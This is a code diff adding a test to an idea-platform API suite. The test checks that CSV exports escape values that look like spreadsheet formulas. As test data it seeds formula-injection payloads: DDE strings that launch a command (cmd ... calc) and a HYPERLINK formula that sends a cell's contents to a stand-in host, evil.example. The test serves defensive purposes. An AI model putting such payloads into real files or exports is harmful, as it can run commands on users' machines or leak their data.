@@ -307,4 +307,45 @@ describe('idea administration (GET /idea, PUT /idea/admin, PUT /idea/changeState
     await api().get(`/api/idea/export/${crowd.id}/${idea.id}`).set('Cookie', follower.cookie).expect(403);
     await api().get(`/api/idea/export/${crowd.id}/${idea.id}?format=xml`).set('Cookie', admin.cookie).expect(422);
   });
+
+  it('exports names and answers that look like spreadsheet formulas as text (formula injection)', async () => {
+    const { crowd, admin } = await staffedCrowd();
+    const creation = await createQuestionnaire(testApp.dataSource, crowd.id, 'IDEA_CREATION', [['TEXT', 'Why?']]);
+    const like = await createQuestionnaire(testApp.dataSource, crowd.id, 'IDEA_LIKE', [['TEXT', 'How?']]);
+    const author = await createUser(testApp.dataSource, { name: "@SUM(1+1)*cmd|' /C calc'!A0" });
+    await addMember(testApp.dataSource, crowd.id, author.id);
+    const liker = await createUser(testApp.dataSource, { name: "-2+3+cmd|' /C calc'!A0" });
+    await addMember(testApp.dataSource, crowd.id, liker.id);
+    const ideaName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const idea = await postIdea(await signIn(testApp.app, author.email), crowd.id, {
+      name: ideaName,
+      answers: JSON.stringify([{ questionId: creation.questions[0]!.id, answer: "+1+cmd|' /C calc'!A0" }]),
+    });
+    await api()
+      .post(`/api/ideaLike/${crowd.subdomain}`)
+      .set('Cookie', await signIn(testApp.app, liker.email))
+      .send({
+        ideaId: idea.id,
+        questionnaireId: like.questionnaire.id,
+        questionnaireAnswers: [{ questionId: like.questions[0]!.id, answer: '=1+1' }],
+      })
+      .expect(201);
+
+    const csv = await api()
+      .get(`/api/idea/export/${crowd.id}/${idea.id}?format=csv`)
+      .set('Cookie', admin.cookie)
+      .buffer(true)
+      .parse((res, done) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (chunk: Buffer) => chunks.push(chunk));
+        res.on('end', () => done(null, Buffer.concat(chunks)));
+      })
+      .expect(200);
+    const [, creationRow, likeRow] = (csv.body as Buffer).toString('utf8').trim().split('\r\n');
+    const quotedIdeaName = `"'${ideaName.replaceAll('"', '""')}"`;
+    const creationCells = `${quotedIdeaName},creation,Why?,'+1+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,`;
+    const likeCells = `${quotedIdeaName},like,How?,'=1+1,'-2+3+cmd|' /C calc'!A0,`;
+    expect(creationRow?.slice(0, creationCells.length)).toBe(creationCells);
+    expect(likeRow?.slice(0, likeCells.length)).toBe(likeCells);
+  });
 });
